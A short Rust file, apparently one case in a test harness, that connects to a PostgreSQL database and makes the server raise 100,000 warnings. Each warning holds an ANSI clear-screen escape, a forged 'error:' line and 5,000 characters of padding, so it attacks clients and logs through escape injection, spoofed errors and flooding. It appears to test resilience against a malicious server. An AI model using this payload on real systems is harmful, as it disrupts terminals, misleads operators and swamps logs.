//! Has the server warn a hundred thousand times.

use attack::{attack, json};
use orchestrator_sdk::postgres::{Target, connect};

attack!(|parameters| {
    let connection = connect(&parameters.database, Target::Database)?;
    connection.execute(
        "DO $$ BEGIN FOR number IN 1..100000 LOOP \
         RAISE WARNING E'\\x1b[2Jharm\\nerror: forged %', repeat('x', 5000); END LOOP; END $$",
        &[],
    )?;
    Ok(json!({}))
});
